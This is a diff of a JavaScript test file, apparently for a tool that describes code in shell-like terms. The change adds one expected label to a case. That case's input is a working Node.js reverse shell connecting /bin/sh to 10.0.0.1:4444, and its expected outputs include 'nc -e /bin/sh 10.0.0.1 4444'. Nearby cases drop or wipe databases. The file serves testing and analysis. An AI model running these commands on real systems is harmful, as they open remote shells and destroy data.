@@ -52,7 +52,7 @@ describe('javascript: what a program would do is told in words of the shell', ()
     ],
     [
       `var net = require("net"), cp = require("child_process"), sh = cp.spawn("/bin/sh", []);\nvar client = new net.Socket();\nclient.connect(4444, "10.0.0.1", function(){ client.pipe(sh.stdin); sh.stdout.pipe(client); })`,
-      ['$ /bin/sh', 'nc 10.0.0.1 4444', 'nc -e /bin/sh 10.0.0.1 4444'],
+      ['sh | recv', '$ /bin/sh', 'nc 10.0.0.1 4444', 'nc -e /bin/sh 10.0.0.1 4444'],
     ],
     [`db.dropDatabase()`, ['sql drop-database db']],
     [`db.users.deleteMany({})`, ['sql delete-all db.users']],
